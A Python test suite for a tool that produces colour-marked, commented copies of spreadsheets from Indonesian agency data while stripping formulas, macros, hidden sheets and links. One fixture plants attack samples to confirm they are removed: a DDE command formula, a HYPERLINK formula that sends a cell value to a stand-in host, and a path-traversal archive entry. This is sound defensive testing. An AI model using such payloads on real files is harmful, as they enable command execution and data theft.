"""Marked copies: the cells that were read, coloured and commented, and nothing else of the file."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from helpers.edition import load_edition
from helpers.params import RunParams
from helpers.read.xlsx_bytes import pack_parts, read_parts
from helpers.workbooks.marked import MAX_COMMENTS, collect_marks, write_marked_copies

ROOT = Path(__file__).resolve().parents[3]
RED, YELLOW, BLUE = "FFFFC7CE", "FFFFEB9C", "FFDDEBF7"
OPD = "laporan-opd-2021.xlsx"
SHEET = "xl/worksheets/sheet1.xml"


def colour(cell: Any) -> str:
    """Return the fill of a cell; empty if it has none."""
    return str(cell.fill.fgColor.rgb) if cell.fill.fill_type == "solid" else ""


# -- what is said ---------------------------------------------------------------------------
def finding(
    code: str, severity: str, cell: str | None, file: str = "a.xlsx", what: str = "keliru."
) -> dict[str, Any]:
    return {"code": code, "severity": severity, "file": file, "sheet": "Data", "cell": cell, "what_id": what,
            "remedy_id": "Perbaiki."}  # fmt: skip


def source(*findings: dict[str, Any], rejects: Any = (), corrections: Any = ()) -> dict[str, Any]:
    return {"findings": list(findings), "rejects": list(rejects), "corrections": list(corrections)}


def test_the_worst_decides_and_everything_is_said_once() -> None:
    reject = {"source_file": "a.xlsx", "source_sheet": "Data", "source_cell": "B2",
              "reason_id": "bukan angka.", "remedy_id": "Perbaiki."}  # fmt: skip
    told = source(
        finding("x", "note", "B2", what="mirip."),
        finding("not_a_number", "error", "B2", what="bukan angka."),
        finding("y", "warning", "C2"), finding("z", "error", None), rejects=[reject],
    )  # fmt: skip
    marks = collect_marks([told])["a.xlsx"]["data"]
    assert set(marks) == {(2, 1), (2, 2)}
    assert marks[2, 1].severity == "error"
    assert marks[2, 1].text == (
        "SALAH: bukan angka.\nTindakan: Perbaiki.\n\nCATATAN: mirip.\nTindakan: Perbaiki."
    )
    assert marks[2, 2].severity == "warning"


def test_all_rejected_cells_are_marked_not_the_listed_hundred_alone() -> None:
    rejects = [
        {"source_file": "a.xlsx", "source_sheet": "Data", "source_cell": f"B{row}", "reason_id": "keliru.",
         "remedy_id": "Perbaiki."} for row in range(2, 302)
    ]  # fmt: skip
    more = finding("more_of_same", "error", "B102…B301", what="masih ada 200 sel lain.")
    marks = collect_marks([source(more, rejects=rejects)])["a.xlsx"]["data"]
    assert len(marks) == 300
    assert "masih ada 200 sel lain." in marks[102, 1].text


def test_a_file_refused_for_personal_data_is_not_copied() -> None:
    told = source(finding("personal_nik", "error", "B2"), finding("y", "warning", "C2"),
                  finding("y", "warning", "C2", file="b.xlsx"))  # fmt: skip
    assert set(collect_marks([told])) == {"b.xlsx"}


def test_a_correction_says_what_is_read_instead() -> None:
    fix = {"source_file": "a.xlsx", "source_sheet": "Data", "source_cell": "G15", "from": "12O", "to": "120",
           "reason": "huruf O", "who": "x"}  # fmt: skip
    said = collect_marks([source(corrections=[fix])])["a.xlsx"]["data"][15, 6]
    assert said.severity == "note"
    assert said.text.startswith('CATATAN: dibaca sebagai "120", bukan "12O" (huruf O)')


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@x", "\t=1", "\x01=1"])
def test_a_comment_never_begins_like_a_formula(start: str) -> None:
    marks = collect_marks([source(finding("y", "warning", "C2", what=f"{start} aneh."))])["a.xlsx"]["data"]
    assert all(re.match(r"[A-Z][a-zA-Z]+: ", line) for line in marks[2, 2].text.split("\n"))
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", marks[2, 2].text)


# -- copies ---------------------------------------------------------------------------------
@pytest.fixture
def raw(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "data" / "raw" / "bnnk-hss" / "2021", tmp_path / "raw" / "bnnk-hss" / "2021")
    return tmp_path / "raw"


def about(file: str, cell: str, sheet: str | None = None, severity: str = "error") -> list[dict[str, Any]]:
    return [source({**finding("y", severity, cell, file=file), "sheet": sheet})]


def copy_of(raw: Path, folder: Path, told: list[dict[str, Any]]) -> Path:
    (copy,) = write_marked_copies(told, load_edition(RunParams(raw=str(raw))), folder)
    return copy


@pytest.fixture
def planted(raw: Path) -> Path:
    """Plant in a file what a copy must not hold; each secret has the word RAHASIA."""
    path = raw / "bnnk-hss" / "2021" / OPD
    book = openpyxl.load_workbook(path)
    sheet = book["Laporan"]
    sheet["B6"].comment = Comment("RAHASIA catatan", "RAHASIA penulis")
    sheet["P6"] = '=HYPERLINK("http://rahasia.example/?x="&B6,"klik")'
    sheet["P7"] = "=cmd|' /C calc'!A0"
    sheet["P8"] = "=1+1"
    sheet["P9"] = "=SUM(RAHASIA)"
    sheet["P9"].data_type = "s"
    sheet["B7"].hyperlink = "http://rahasia.example/"
    sheet.oddHeader.center.text = "RAHASIA kepala"
    sheet.print_title_rows = "1:5"
    for name, state in (("RAHASIA", "hidden"), ("RAHASIA 2", "veryHidden"), ("RAHASIA 3", "visible")):
        other = book.create_sheet(name)
        other["A1"], other.sheet_state = "RAHASIA isi", state
    book.defined_names["RAHASIA"] = DefinedName("RAHASIA", attr_text="'RAHASIA'!$A$1")
    book.properties.creator = book.properties.description = "RAHASIA"
    saved = io.BytesIO()
    book.save(saved)
    parts = read_parts(saved.getvalue())
    before = parts[SHEET]
    # What a spreadsheet keeps beside a formula.
    parts[SHEET] = re.sub(rb"<f>1\+1</f><v ?/?>(</v>)?", rb"<f>1+1</f><v>2</v>", before)
    assert parts[SHEET] != before
    parts |= {name: b"RAHASIA" for name in (
        "xl/vbaProject.bin", "customXml/item1.xml", "xl/externalLinks/externalLink1.xml",
        "../../../tmp/rahasia", "xl/media/image1.png", "docProps/custom.xml",
    )}  # fmt: skip
    path.write_bytes(pack_parts(parts))
    return raw


def test_nothing_of_the_file_but_the_cells_read_is_in_a_copy(planted: Path, tmp_path: Path) -> None:
    copy = copy_of(planted, tmp_path / "out", about(OPD, "B6", "Laporan"))
    parts = read_parts(copy.read_bytes())
    told = {name for name, part in parts.items() if b"rahasia" in (name.encode() + part).lower()}
    # The text that looks like a formula is the value of a cell that was read.
    assert told == {SHEET}
    assert re.findall(r"[^>]*rahasia[^<]*", parts[SHEET].decode().lower()) == ["'=sum(rahasia)"]
    assert {name for name in parts if not name.startswith(("_rels/", "docProps/"))} == {
        "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
        "xl/theme/theme1.xml", SHEET, "xl/worksheets/_rels/sheet1.xml.rels", "xl/comments/comment1.xml",
        "xl/drawings/commentsDrawing1.vml",
    }  # fmt: skip
    sheet = parts[SHEET].decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_a_copy_has_the_values_as_they_were_read(planted: Path, tmp_path: Path) -> None:
    copy = copy_of(planted, tmp_path / "out", about(OPD, "B6", "Laporan"))
    book = openpyxl.load_workbook(copy)
    assert book.sheetnames == ["Laporan"]
    sheet = book["Laporan"]
    original = openpyxl.load_workbook(ROOT / "data" / "raw" / "bnnk-hss" / "2021" / OPD)["Laporan"]
    same = [name for name in ("B6", "G10", "A30", "D12") if sheet[name].value == original[name].value]
    assert same == ["B6", "G10", "A30", "D12"]
    # Of a formula its value; one that was saved without it is told as no formula is.
    assert (sheet["P8"].value, sheet["P7"].value, sheet["P6"].value) == (2, "'=", "'=")
    assert (sheet["P9"].value, sheet["P9"].data_type) == ("'=SUM(RAHASIA)", "s")


def test_cells_are_coloured_and_commented(raw: Path, tmp_path: Path) -> None:
    told = [*about(OPD, "B6", "Laporan"), *about(OPD, "G7", None, "warning"),
            *about(OPD, "ZZ200", " laporan ", "note")]  # fmt: skip
    sheet = openpyxl.load_workbook(copy_of(raw, tmp_path / "out", told))["Laporan"]
    assert [colour(sheet[name]) for name in ("B6", "G7", "ZZ200")] == [RED, YELLOW, BLUE]
    assert sheet["B6"].comment.text == "SALAH: keliru.\nTindakan: Perbaiki."
    assert sheet["B6"].comment.author == "Pemeriksaan data"
    assert sheet["ZZ200"].value is None
    others = [cell for row in sheet.iter_rows() for cell in row if colour(cell) or cell.comment]
    assert [cell.coordinate for cell in others] == ["B6", "G7", "ZZ200"]


def test_beyond_a_thousand_comments_cells_are_coloured_alone(raw: Path, tmp_path: Path) -> None:
    told = [source(*({**finding("y", "warning", f"A{row}", file=OPD), "sheet": None}
                     for row in range(1, MAX_COMMENTS + 2)))]  # fmt: skip
    sheet = openpyxl.load_workbook(copy_of(raw, tmp_path / "out", told))["Laporan"]
    assert (sheet["A1000"].comment is None, sheet["A1001"].comment is None) == (False, True)
    assert colour(sheet["A1001"]) == YELLOW


def test_only_the_office_may_open_them_and_the_bytes_are_always_the_same(raw: Path, tmp_path: Path) -> None:
    told = about(OPD, "B6", "Laporan")
    first, second = (copy_of(raw, tmp_path / name, told) for name in ("one", "two"))
    assert (first.stat().st_mode & 0o777, first.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_sheets_that_were_read_are_all_there(raw: Path, tmp_path: Path) -> None:
    name = "anggaran-2021.xlsx"
    book = openpyxl.load_workbook(copy_of(raw, tmp_path / "out", about(name, "F22", " desember ")))
    assert colour(book["Desember"]["F22"]) == RED
    assert book["Januari"]["F22"].comment is None
    assert len(book.sheetnames) == 13  # the months and the plan
    assert "Referensi" not in book.sheetnames


def test_a_workbook_with_macros_becomes_one_without(raw: Path, tmp_path: Path) -> None:
    folder = raw / "bnnk-hss" / "2021"
    (folder / OPD).rename(folder / "laporan.xlsm")
    declaration = folder / "edition.toml"
    declaration.write_text(declaration.read_text("utf-8").replace(OPD, "laporan.xlsm"), encoding="utf-8")
    copy = copy_of(raw, tmp_path / "out", about("laporan.xlsm", "B6", "Laporan"))
    assert copy.name == "laporan.xlsm.xlsx"


def test_a_csv_becomes_a_workbook_with_every_value_in_its_cell(raw: Path, tmp_path: Path) -> None:
    path = raw / "bnnk-hss" / "2021" / "desa.csv"
    text = path.read_text(encoding="utf-8-sig").replace("Hamalau", "=HYPERLINK(1)", 1)
    path.write_text(text.replace("Lok Binuang", "Lok\x01\ufffe Binuang", 1), encoding="utf-8")
    copy = copy_of(raw, tmp_path / "out", about("desa.csv", "B2"))
    assert copy.name == "desa.csv.xlsx"
    sheet = openpyxl.load_workbook(copy).worksheets[0]
    rows = [line.split(";") for line in text.splitlines()]
    assert [sheet["A1"].value, sheet["A149"].value] == [rows[0][0], rows[148][0]]
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("'=HYPERLINK(1)", "s")
    assert colour(sheet["B2"]) == RED
    assert "Lok Binuang" in [cell.value for cell in sheet["B"]]


@pytest.mark.parametrize("name", ["desa.ods", "desa.xls"])
def test_other_workbooks_become_a_plain_one(raw: Path, tmp_path: Path, name: str) -> None:
    folder = raw / "bnnk-hss" / "2021"
    shutil.copy(ROOT / "tests" / "corpus" / name, folder / name)
    declaration = folder / "edition.toml"
    declaration.write_text(declaration.read_text("utf-8").replace("desa.csv", name), encoding="utf-8")
    copy = copy_of(raw, tmp_path / "out", about(name, "B2"))
    assert copy.name == f"{name}.xlsx"
    sheet = openpyxl.load_workbook(copy).worksheets[0]
    assert colour(sheet["B2"]) == RED
    assert [cell.value for cell in sheet[2]] == ["63.06.05.2017", "Tibung Raya", 2020]


def test_a_file_that_cannot_be_opened_has_no_copy(raw: Path, tmp_path: Path) -> None:
    path = raw / "bnnk-hss" / "2021" / OPD
    path.write_bytes(path.read_bytes()[:3000])
    told = [*about(OPD, "B3"), *about("desa.csv", "B2")]
    assert copy_of(raw, tmp_path / "out", told).name == "desa.csv.xlsx"


def test_nothing_said_about_a_cell_writes_nothing(raw: Path, tmp_path: Path) -> None:
    edition = load_edition(RunParams(raw=str(raw)))
    told = [source(finding("sheet_missing", "error", None, file=OPD))]
    assert write_marked_copies(told, edition, tmp_path / "out") == []
    assert not (tmp_path / "out").exists()
